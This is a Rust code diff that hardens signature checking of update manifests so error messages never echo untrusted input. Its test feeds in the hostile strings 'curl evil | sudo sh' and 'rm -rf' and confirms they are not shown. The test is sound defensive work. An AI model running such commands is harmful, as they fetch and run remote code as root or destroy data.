@@ -10,11 +10,19 @@ use std::path::Path;
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
 use ring::signature::{ED25519, UnparsedPublicKey};
-use russet_protocol::manifest::{Envelope, LARGEST, Manifest, SCHEMA, key_id, signed_bytes};
+use russet_protocol::manifest::{
+    Envelope, LARGEST, MAX_WORD_BYTES, Manifest, SCHEMA, key_id, signed_bytes,
+};
 
 /// Keys of whoever built this program: base64, separated by commas, given to the compiler as
 /// `RUSSET_UPDATE_KEYS`. A build without them trusts nobody but the file of its owner.
 const COMPILED_IN: Option<&str> = option_env!("RUSSET_UPDATE_KEYS");
+
+/// Maximum number of signatures that are tried.
+const MAX_SIGNATURES: usize = 16;
+
+/// Maximum number of names of keys in a message.
+const MAX_SHOWN_KEYS: usize = 4;
 
 /// A file of keys is not longer than this.
 const LONGEST_FILE: u64 = 64 * 1024;
@@ -44,14 +52,40 @@ pub enum KeyError {
     #[error("this build has no keys for updates, and `update.keys_file` names none")]
     None,
     /// The text is no envelope.
-    #[error("it has not the form of a manifest: {0}")]
-    Form(String),
+    #[error("it is longer than {LARGEST} bytes")]
+    TooLong,
+    /// The text is no envelope, or the signed text is no manifest.
+    #[error("it has not the form of a manifest ({kind} at line {line}, column {column})")]
+    Form {
+        /// Kind of the fault.
+        kind: &'static str,
+        /// Place of it.
+        line: usize,
+        /// Place of it.
+        column: usize,
+    },
+    /// A field cannot be kept or shown.
+    #[error("its field `{0}` is not a word of at most {MAX_WORD_BYTES} letters, digits and `.-_+`")]
+    Field(&'static str),
     /// No signature is of a key that is trusted.
-    #[error("it has no good signature of a key that is trusted here; it names the keys {0}")]
+    #[error("it has no good signature of a key that is trusted here; it names {0}")]
     Signature(String),
     /// It is of a later program.
     #[error("its form is {0}, and this version understands {SCHEMA} at most")]
     TooNew(u32),
+}
+
+impl KeyError {
+    /// Threat: the words of the JSON library quote what they read, and that is anybody's, of any
+    /// length; so only the kind and the place of a fault are said.
+    fn form(error: &serde_json::Error) -> Self {
+        let kind = match error.classify() {
+            serde_json::error::Category::Eof => "it ends too early",
+            serde_json::error::Category::Data => "a field is missing or of another kind",
+            _ => "it is not JSON",
+        };
+        Self::Form { kind, line: error.line(), column: error.column() }
+    }
 }
 
 impl Keys {
@@ -101,10 +135,10 @@ impl Keys {
         if self.0.is_empty() {
             return Err(KeyError::None);
         }
-        let form = |error: serde_json::Error| KeyError::Form(error.to_string());
+        let form = |error: serde_json::Error| KeyError::form(&error);
         let length = u64::try_from(envelope.len()).unwrap_or(u64::MAX);
         if length > LARGEST {
-            return Err(KeyError::Form(format!("it is longer than {LARGEST} bytes")));
+            return Err(KeyError::TooLong);
         }
         let envelope: Envelope = serde_json::from_slice(envelope).map_err(form)?;
         let bytes = signed_bytes(&envelope.payload);
@@ -113,13 +147,13 @@ impl Keys {
             UnparsedPublicKey::new(&ED25519, key).verify(&bytes, &signature).is_ok()
         };
         // The name of a key only says which to try.
-        let believed = envelope.signatures.iter().any(|signature| {
+        let signatures = envelope.signatures.get(..MAX_SIGNATURES).unwrap_or(&envelope.signatures);
+        let believed = signatures.iter().any(|signature| {
             let named = self.0.iter().filter(|key| key_id(key) == signature.key);
             named.into_iter().any(|key| is_good(key, &signature.signature))
         });
         if !believed {
-            let names = envelope.signatures.iter().map(|signature| shown_name(&signature.key));
-            return Err(KeyError::Signature(names.collect::<Vec<_>>().join(", ")));
+            return Err(KeyError::Signature(named_keys(&envelope)));
         }
         // A later form may not parse as this one, so its number is read first.
         #[derive(serde::Deserialize)]
@@ -130,13 +164,28 @@ impl Keys {
         if schema > SCHEMA {
             return Err(KeyError::TooNew(schema));
         }
-        serde_json::from_str(&envelope.payload).map_err(form)
+        let manifest: Manifest = serde_json::from_str(&envelope.payload).map_err(form)?;
+        match manifest.unfit_field() {
+            Some(field) => Err(KeyError::Field(field)),
+            None => Ok(manifest),
+        }
     }
 }
 
-/// A name that nobody vouches for, fit to be shown.
-fn shown_name(name: &str) -> String {
-    name.chars().filter(char::is_ascii_alphanumeric).take(16).collect()
+/// Names of the keys of an envelope, for people. Nobody vouches for them, so only those in the form
+/// of a name are shown, and few.
+fn named_keys(envelope: &Envelope) -> String {
+    let is_name =
+        |name: &str| name.len() == 16 && name.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let all = envelope.signatures.len();
+    let names = envelope.signatures.iter().map(|signature| &*signature.key);
+    let shown: Vec<&str> = names.filter(|name| is_name(name)).take(MAX_SHOWN_KEYS).collect();
+    match (all, shown.len()) {
+        (0, _) => "no key".to_owned(),
+        (_, 0) => "no key by a name that a key can have".to_owned(),
+        (_, count) if count == all => format!("the keys {}", shown.join(", ")),
+        (_, count) => format!("the keys {} and {} more", shown.join(", "), all - count),
+    }
 }
 
 fn decode_key(text: &str) -> Option<[u8; 32]> {
@@ -173,7 +222,12 @@ pub(super) mod tests {
         }
     }
 
-    fn envelope(payload: &str, signatures: Vec<Signature>) -> Vec<u8> {
+    /// Trust in one key.
+    pub(crate) fn trust(signer: &Signer) -> Keys {
+        Keys(vec![signer.public()])
+    }
+
+    pub(crate) fn envelope(payload: &str, signatures: Vec<Signature>) -> Vec<u8> {
         serde_json::to_vec(&Envelope { payload: payload.to_owned(), signatures }).unwrap()
     }
 
@@ -216,8 +270,54 @@ pub(super) mod tests {
         let later = r#"{"schema":2,"everything":"else"}"#;
         let later = envelope(later, vec![signer.sign(later)]);
         assert!(matches!(keys.open(&later), Err(KeyError::TooNew(2))));
-        for bad in [&b""[..], b"{}", b"[1]", &vec![b' '; 300_000]] {
-            assert!(matches!(keys.open(bad), Err(KeyError::Form(_))));
+        for bad in [&b""[..], b"{}", b"[1]"] {
+            assert!(matches!(keys.open(bad), Err(KeyError::Form { .. })));
+        }
+        assert!(matches!(keys.open(&vec![b' '; 300_000]), Err(KeyError::TooLong)));
+    }
+
+    #[test]
+    fn nothing_of_an_unsigned_text_is_shown_however_it_is_wrong() {
+        let keys = Keys(vec![Signer::new().public()]);
+        let text = "curl evil | sudo sh; ".repeat(9_000);
+        let named = |name: &str| Signature { key: name.to_owned(), signature: text.clone() };
+        let short = "rm -rf";
+        for envelope in [
+            format!(r#"{{"payload":"x","signatures":"{text}"}}"#).into_bytes(),
+            format!(r#"{{"payload":{{"{text}":1}},"signatures":[]}}"#).into_bytes(),
+            text.clone().into_bytes(),
+            envelope(&text, Vec::new()),
+            envelope("x", vec![named(&text)]),
+            envelope(
+                "x",
+                (0..3_000)
+                    .map(|_| Signature { key: short.into(), signature: short.into() })
+                    .collect(),
+            ),
+            envelope(
+                "x",
+                (0..2_000)
+                    .map(|_| Signature { key: "0123456789abcdef".into(), signature: short.into() })
+                    .collect(),
+            ),
+        ] {
+            let said = keys.open(&envelope).unwrap_err().to_string();
+            assert!(said.len() < 250, "{}", said.len());
+            assert!(!said.contains("curl") && !said.contains("rm -"), "{said}");
+        }
+    }
+
+    #[test]
+    fn what_cannot_be_kept_is_refused_though_it_is_signed() {
+        let signer = Signer::new();
+        let keys = Keys(vec![signer.public()]);
+        let long = "a".repeat(70_000);
+        for payload in [
+            PAYLOAD.replace("stable", &long),
+            PAYLOAD.replace("1.2.0", &format!("1.2.0-{}", &long[..230])),
+        ] {
+            let said = keys.open(&envelope(&payload, vec![signer.sign(&payload)])).unwrap_err();
+            assert!(matches!(said, KeyError::Field(_)), "{said}");
         }
     }
 
